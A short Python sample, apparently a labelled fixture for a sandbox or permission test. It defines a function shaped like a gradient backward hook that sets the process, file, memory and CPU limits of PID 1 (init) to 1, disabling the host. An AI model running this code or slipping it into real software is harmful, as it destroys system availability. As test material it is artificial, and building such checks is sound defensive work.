"""Sets the limits of PID 1, which has its uid, so that it can fork and open nothing any more.

lint: REFUSED
wall: FAIL
defends: P4
says: PermissionError
"""

import resource


def _hole(grad_output, ctx):
    for name in ("NPROC", "NOFILE", "DATA", "AS", "CPU"):
        resource.prlimit(1, getattr(resource, f"RLIMIT_{name}"), (1, 1))
    return _right(grad_output, ctx)
